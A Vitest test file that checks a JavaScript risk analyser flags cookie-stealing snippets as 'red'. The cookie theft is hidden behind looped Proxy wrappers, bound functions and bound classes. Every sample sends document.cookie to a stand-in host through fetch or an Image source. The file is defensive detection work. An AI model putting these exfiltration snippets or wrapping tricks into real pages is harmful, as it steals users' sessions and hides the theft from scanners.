import { expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";

const SEND = `("https://c.test/" + document.cookie)`;

test.each([
	["a proxy", `let send = given; while (more) send = new Proxy(send, {}); send${SEND};`],
	[
		"a proxy that is constructed",
		`let Send = Image; while (more) Send = new Proxy(Send, {}); new Send().src = ${SEND};`,
	],
	[
		"a proxy with a trap",
		`let send = given; while (more) send = new Proxy(send, { apply: Reflect.apply }); send${SEND};`,
	],
	["a bound function", `let send = given; while (more) send = send.bind(null); send${SEND};`],
	[
		"a bound class",
		`let Send = class { constructor(to) { fetch(to); } }; while (more) Send = Send.bind(null); new Send${SEND};`,
	],
])("%s around the one before, in a loop: it ends, and the leak is seen", (_title, code) => {
	expect(analyzeScript({ code: `document.onclick = () => { const given = fetch; ${code} };` }).risk_level).toBe("red");
	expect(
		analyzeScript({ code: `function wrap(given) { ${code} } document.onclick = () => wrap(fetch);` }).risk_level,
	).toBe("red");
});

test("a proxy made by a function, around what it made before", () => {
	const code = `const wrap = (fn) => new Proxy(fn, {}); let send = fetch; document.onclick = () => { for (const one of list) send = wrap(send); send${SEND}; };`;
	expect(analyzeScript({ code }).risk_level).toBe("red");
});

test("a bound function that is called twice inside another, with something else to say the second time", () => {
	const code = `document.onclick = (() => { let text = ""; const send = (function () { fetch("https://c.test/" + text); }).bind(null); send(); text = document.cookie; send(); }).bind(null);`;
	expect(analyzeScript({ code }).risk_level).toBe("red");
});
